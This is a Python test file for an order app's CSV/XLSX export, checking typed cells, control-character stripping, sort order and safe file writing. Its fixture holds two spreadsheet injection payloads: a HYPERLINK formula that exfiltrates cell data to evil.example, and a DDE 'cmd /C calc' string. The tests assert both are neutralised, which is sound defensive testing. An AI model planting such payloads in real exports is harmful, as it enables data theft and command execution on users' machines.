"""Exports people open: typed cells, no live formulas, no control characters, the sort asked,
never over the database, never half a file."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from gestco.domain.errors import ValidationError
from gestco.services import export
from gestco.services.order_table import NO_FILTER, OrderSort
from gestco.storage import binding
from tests.support.databases import TEST_DB, sql, sqlite_only
from tests.support.shop import Shop

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
FRENCH = export.Presentation(
    headers={"number": "Numéro", "total": "Total TTC", "status": "Statut"},
    labels={"status": {"pending": "À traiter"}, "channel": {"counter": "Comptoir"}},
    decimal_comma=True,
    day_format="%d/%m/%Y",
    moment_format="%d/%m/%Y %H:%M",
    spreadsheet=True,
)


def _target(db_path: Path) -> str:
    return TEST_DB if not str(db_path).endswith(".sqlite3") else str(db_path)


@pytest.fixture
def orders(shop: Shop, db_path: Path) -> Path:
    """Three orders; the first client's name and notes hold what an attacker would type,
    written straight into the tables as another tool (or an older GESTCO) could."""
    amina = shop.client()
    guest = shop.client(phone="+33612345678", first="Élodie", last="Martin")
    coffee = shop.product(price="45.00", stock_qty=50)
    for client, quantity in ((amina, 1), (guest, 3), (amina, 2)):
        shop.order(client.id, (coffee.id, quantity))
    target = _target(db_path)
    sql(target, "UPDATE clients SET first_name = ?, last_name = '' WHERE id = ?", HOSTILE, amina.id)
    sql(
        target,
        "UPDATE orders SET notes = ? WHERE client_id = ?",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        amina.id,
    )
    return db_path


def _sheet(path: Path):
    return load_workbook(path).active


def test_xlsx_holds_numbers_dates_and_text_as_text(orders: Path, tmp_path: Path) -> None:
    out = tmp_path / "orders.xlsx"
    assert (
        export.write_file(out, export.ORDER_COLUMNS, export.order_rows(), fmt="xlsx", sheet="o")
        == 3
    )
    sheet = _sheet(out)
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["number", "created_at", "status"]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["L"].width >= 30  # notes: wide enough to read
    rows = list(sheet.iter_rows(min_row=2))
    by_name = {r[header.index("client_name")].value: r for r in rows}
    hostile = by_name[HOSTILE]  # exactly the text, not a formula
    assert hostile[header.index("client_name")].data_type == "s"
    assert hostile[header.index("notes")].value.startswith("@SUM")
    total = hostile[header.index("total")]
    assert total.data_type == "n" and Decimal(str(total.value)) in (Decimal("45"), Decimal("90"))
    assert total.number_format == "#,##0.00"
    created = hostile[header.index("created_at")]
    assert created.is_date and isinstance(created.value, datetime)
    assert hostile[header.index("shipping_date")].is_date
    phone = by_name["Élodie Martin"][header.index("client_phone")]
    assert (phone.value, phone.data_type) == ("+33612345678", "s")
    # No cell anywhere is a formula.
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


def test_spreadsheet_csv_is_french_with_a_bom_and_no_formulas(orders: Path, tmp_path: Path) -> None:
    out = tmp_path / "orders.csv"
    export.write_file(
        out, export.ORDER_COLUMNS, export.order_rows(), fmt="csv", sheet="", how=FRENCH
    )
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads "Élodie"
    text = raw[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header = rows[0]
    assert header[:3] == ["Numéro", "created_at", "Statut"] and header[7] == "Total TTC"
    body = rows[1:]
    assert {r[2] for r in body} == {"À traiter"} and {r[3] for r in body} == {"Comptoir"}
    assert {r[7] for r in body} == {"45,00", "135,00", "90,00"}  # the language's decimal comma
    assert all(len(r[1]) == 16 and r[1][2] == "/" for r in body)  # 25/12/2031 23:59
    names = {r[5] for r in body}
    assert "'" + HOSTILE in names and "Élodie Martin" in names
    assert {r[4] for r in body} >= {"'+33612345678"}  # a phone stays text, never =+33…
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in body for cell in r)


def test_the_machine_csv_keeps_codes_iso_dates_and_dots(orders: Path, tmp_path: Path) -> None:
    """The CLI's documented format: values as stored, no escaping (README)."""
    out = io.StringIO(newline="")
    export.write_csv(out, export.ORDER_COLUMNS, export.order_rows())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {r["status"] for r in rows} == {"pending"}
    assert {r["total"] for r in rows} == {"45.00", "135.00", "90.00"}
    assert all(r["created_at"][10] == "T" for r in rows)
    assert HOSTILE in {r["client_name"] for r in rows}
    assert not out.getvalue().startswith("\ufeff")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_control_characters_an_older_database_holds_are_dropped(
    shop: Shop, db_path: Path, tmp_path: Path, fmt: str
) -> None:
    """One \\x01 in a name made every later XLSX export fail (IllegalCharacterError)."""
    client = shop.client()
    shop.order(client.id, (shop.product().id, 1))
    target = _target(db_path)
    sql(
        target,
        "UPDATE clients SET first_name = ?, city = ?, address = ?, postal_code = ? WHERE id = ?",
        "Am\x01ina\x1f",
        "Ra\x7fbat",
        "12 rue\x0b des Fleurs\nAgdal",
        "10\x0800",
        client.id,
    )
    sql(target, "UPDATE orders SET notes = ?, shipping_address = ?", "fragile\x02\tverre", "x\x1by")
    out = tmp_path / f"o.{fmt}"
    assert export.write_file(out, export.ORDER_COLUMNS, export.order_rows(), fmt=fmt, sheet="o")
    clients_out = tmp_path / f"c.{fmt}"
    assert export.write_file(
        clients_out, export.CLIENT_COLUMNS, export.client_rows(), fmt=fmt, sheet="c"
    )
    if fmt == "xlsx":
        order = [c.value for c in _sheet(out)[2]]
        person = [c.value for c in _sheet(clients_out)[2]]
    else:
        order = list(csv.reader(out.open(encoding="utf-8")))[1]
        person = list(csv.reader(clients_out.open(encoding="utf-8")))[1]
    assert "Amina Benali" in order and "fragile\tverre" in order and "xy" in order
    assert {"Amina", "Rabat", "12 rue des Fleurs\nAgdal", "1000"} <= set(person)


def test_the_export_follows_the_sort_and_the_filter(orders: Path) -> None:
    _, rows = export.order_rows(sort=OrderSort.TOTAL, descending=False)
    assert [r[7] for r in rows] == [4500, 9000, 13500]
    _, rows = export.order_rows(sort=OrderSort.TOTAL, descending=True)
    assert [r[7] for r in rows] == [13500, 9000, 4500]
    total, rows = export.order_rows(export.OrderFilter(text="Martin"))
    assert total == 1 and [r[5] for r in rows] == ["Élodie Martin"]
    assert export.order_rows(NO_FILTER)[0] == 3


@sqlite_only("the open database is a file here")
def test_an_export_never_replaces_the_database_or_its_files(orders: Path, tmp_path: Path) -> None:
    database = orders
    before = database.read_bytes()[:100]
    size = database.stat().st_size
    link = tmp_path / "link.csv"
    link.symlink_to(database)
    hard = tmp_path / "hard.xlsx"
    os.link(database, hard)
    backup = tmp_path / "copy-of-shop.sqlite3"
    sqlite3.connect(backup).execute("CREATE TABLE t (x)").connection.close()
    targets = [
        database,
        Path(f"{database}-wal"),
        Path(f"{database}-shm"),
        Path(f"{database}-journal"),
        link,
        hard,
        backup,
        tmp_path / ".." / tmp_path.name / database.name,
    ]
    for target in targets:
        for fmt in ("csv", "xlsx"):
            with pytest.raises(ValidationError) as refused:
                export.write_file(
                    target, export.ORDER_COLUMNS, export.order_rows(), fmt=fmt, sheet="o"
                )
            assert refused.value.field == "output"
    assert database.read_bytes()[:100] == before and database.stat().st_size == size
    binding.close_database()
    assert sqlite3.connect(database).execute("SELECT count(*) FROM orders").fetchone() == (3,)


def test_a_failed_or_cancelled_export_leaves_the_previous_file_and_no_other(
    orders: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / "orders.csv"
    out.write_text("the previous export\n", encoding="utf-8")

    def cancel(done: int, total: int) -> None:
        raise export.ExportCancelled

    def interrupt(done: int, total: int) -> None:
        raise KeyboardInterrupt

    for stop, error in ((cancel, export.ExportCancelled), (interrupt, KeyboardInterrupt)):
        for fmt in ("csv", "xlsx"):
            with pytest.raises(error):
                export.write_file(
                    out,
                    export.ORDER_COLUMNS,
                    export.order_rows(),
                    fmt=fmt,
                    sheet="o",
                    progress=stop,
                )
            assert out.read_text(encoding="utf-8") == "the previous export\n"
            assert [p.name for p in folder.iterdir()] == ["orders.csv"]


def test_an_export_through_a_link_replaces_the_file_not_the_link(
    orders: Path, tmp_path: Path
) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "latest.csv"
    link.symlink_to(real)
    export.write_file(link, export.ORDER_COLUMNS, export.order_rows(), fmt="csv", sheet="o")
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("number,")


def test_a_missing_folder_is_said_about_the_export_file(orders: Path, tmp_path: Path) -> None:
    out = tmp_path / "missing" / "orders.csv"
    with pytest.raises(FileNotFoundError) as failed:
        export.write_file(out, export.ORDER_COLUMNS, export.order_rows(), fmt="csv", sheet="o")
    assert failed.value.filename == str(out)


def test_cells_rules() -> None:
    from gestco.services.export_cells import clean_text, excel_format, neutralise_formula

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_formula(f"{start}1+2") == f"'{start}1+2"
    assert neutralise_formula("Amina") == "Amina"
    assert clean_text("a\x00b\x1fc\x7fd\ufffee\tf\ng\rh") == "abcde\tf\ng\rh"
    assert excel_format("%d/%m/%Y %H:%M") == "DD/MM/YYYY HH:MM"
